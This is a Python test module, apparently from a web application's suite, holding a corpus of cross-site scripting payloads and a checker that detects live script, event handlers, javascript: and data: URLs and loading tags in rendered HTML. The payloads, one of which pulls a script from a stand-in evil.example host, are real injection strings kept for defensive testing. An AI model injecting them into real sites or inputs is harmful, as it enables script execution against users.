"""A corpus of script-injection payloads, and a check that HTML carries none of them live.

Every payload calls ``xssMarker()`` (or opens a dialog) when it executes, so
a browser test can define that function and fail if it is ever called. The
HTML check looks for what a browser would run: script elements that are not
the site's own, event-handler attributes, dangerous URL schemes in links and
sources, and elements that load or redirect (iframe, object, embed, base,
meta refresh, form actions).
"""

import re

from tests.html import Node, parse

MARKER = "xssMarker()"

PAYLOADS = [
    # Script elements and event handlers.
    "<script>xssMarker()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="xssMarker()">',
    "<img src=x onerror=xssMarker()//",
    '<svg onload="xssMarker()"></svg>',
    "<svg><script>xssMarker()</script></svg>",
    '<body onload="xssMarker()">',
    '<details open ontoggle="xssMarker()">',
    '<input autofocus onfocus="xssMarker()">',
    '<video><source onerror="xssMarker()"></video>',
    '<div style="background:url(javascript:xssMarker())">x</div>',
    # Dangerous URL schemes, plain and obfuscated.
    '<a href="javascript:xssMarker()">link</a>',
    '<a href="JaVaScRiPt:xssMarker()">link</a>',
    '<a href="&#106;avascript:xssMarker()">entity</a>',
    '<a href="&#x6A;&#x61;vascript&colon;xssMarker()">hex entity</a>',
    '<a href=" \tjava\nscript:xssMarker()">whitespace</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD54c3NNYXJrZXIoKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:xssMarker()">vb</a>',
    '<img src="javascript:xssMarker()">',
    "<form action=javascript:xssMarker()><button>go</button></form>",
    '<button formaction="javascript:xssMarker()">go</button>',
    # Elements that load or redirect.
    "<iframe src=javascript:xssMarker()></iframe>",
    '<iframe srcdoc="<script>parent.xssMarker()</script>"></iframe>',
    '<object data="javascript:xssMarker()"></object>',
    '<embed src="javascript:xssMarker()">',
    '<base href="javascript:xssMarker()//">',
    '<meta http-equiv="refresh" content="0;url=javascript:xssMarker()">',
    '<link rel="import" href="data:text/html,<script>xssMarker()</script>">',
    # SVG and MathML.
    '<svg><a xlink:href="javascript:xssMarker()"><text y="20">svg</text></a></svg>',
    '<svg><animate onbegin="xssMarker()" attributeName="x"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="xssMarker()">',
    '<math href="javascript:xssMarker()">math</math>',
    # mXSS and broken nesting.
    '<noscript><p title="</noscript><img src=x onerror=xssMarker()>">',
    '<svg></p><style><a id="</style><img src=1 onerror=xssMarker()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xssMarker()>",
    "<!--<img src=x onerror=xssMarker()>-->",
    "<![CDATA[<script>xssMarker()</script>]]>",
    '<textarea></textarea><img src=x onerror="xssMarker()">',
    '<title></title><img src=x onerror="xssMarker()">',
    # Attribute breaking.
    '"><img src=x onerror=xssMarker()>',
    "'><img src=x onerror=xssMarker()>",
    '" onmouseover="xssMarker()" x="',
    "' autofocus onfocus='xssMarker()' x='",
    "</script><script>xssMarker()</script>",
    '</textarea><img src=x onerror="xssMarker()">',
    # Markdown link, image and reference abuse.
    "[click](javascript:xssMarker())",
    "[click](JAVASCRIPT:xssMarker())",
    "[click](&#106;avascript:xssMarker())",
    "[click](<javascript:xssMarker()>)",
    '[click](javascript:xssMarker() "title")',
    "![x](javascript:xssMarker())",
    '![x" onerror="xssMarker()](x.png)',
    '[x](https://example.org/" onmouseover="xssMarker())',
    "[ref][1]\n\n[1]: javascript:xssMarker()",
    "<javascript:xssMarker()>",
    "[a](data:text/html;base64,PHNjcmlwdD54c3NNYXJrZXIoKTwvc2NyaXB0Pg==)",
    "```\n</code><script>xssMarker()</script>\n```",
    "`<img src=x onerror=xssMarker()>`",
    "*<img src=x onerror=xssMarker()>*",
    "> <script>xssMarker()</script>",
    '<div markdown="1">[x](javascript:xssMarker())</div>',
    '{: onclick="xssMarker()" }\nParagraph',
    # Unicode tricks.
    "<scr\u200bipt>xssMarker()</scr\u200bipt>",
    "\uff1cscript\uff1exssMarker()\uff1c/script\uff1e",
    "\u202e<img src=x onerror=xssMarker()>",
    "javascript\u2028:xssMarker()",
    # Template and JSON-LD breakouts.
    "{{ 7|add:7 }}{% now 'Y' %}",
    '</script><script type="application/ld+json">{}</script><script>xssMarker()</script>',
    "\\u003cscript\\u003exssMarker()\\u003c/script\\u003e",
]

DANGEROUS_SCHEME = re.compile(r"^\s*(javascript|vbscript|data|livescript|mocha):", re.I)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcset", "poster"}
LOADING_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset", "applet", "link"}


def _scheme_text(value: str) -> str:
    # The parser already decoded entities once, as a browser does; a browser
    # also ignores ASCII whitespace and controls inside the scheme.
    return re.sub(r"[\x00-\x20]", "", value)


# Where the site's own scripts come from (the admin's translations too).
OWN_SCRIPTS = ("/static/", "/admin/jsi18n/")


def live_markup(document: str) -> list[str]:
    """Everything in ``document`` a browser would run or follow into script."""
    problems = []
    for node in parse(document).iter():
        if not isinstance(node, Node) or not node.tag:
            continue
        tag = node.tag.lower()
        attrs = {name.lower(): value or "" for name, value in node.attrs.items()}
        if tag == "script":
            kind = attrs.get("type", "")
            own = attrs.get("src", "").startswith(OWN_SCRIPTS)
            data_only = kind in {"application/ld+json", "application/json"}
            body = "".join(c for c in node.children if isinstance(c, str))
            if not (own or data_only) or (MARKER in body and not data_only):
                problems.append(f"<script {attrs}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=…>")
            dangerous = name in URL_ATTRIBUTES and DANGEROUS_SCHEME.match(_scheme_text(value))
            if dangerous and not (tag == "img" and value.startswith("data:image/")):
                problems.append(f"<{tag} {name}={value[:40]}>")
            if name == "srcdoc":
                problems.append(f"<{tag} srcdoc>")
        if tag in LOADING_TAGS and not (tag == "link" and attrs.get("rel") in OWN_LINK_RELS):
            problems.append(f"<{tag}>")
        if tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh":
            problems.append("<meta refresh>")
    return problems


# Link elements the site writes itself in <head>.
OWN_LINK_RELS = {
    "stylesheet",
    "canonical",
    "alternate",
    "icon",
    "preload",
    "modulepreload",
    "next",
    "prev",
    "author",
}
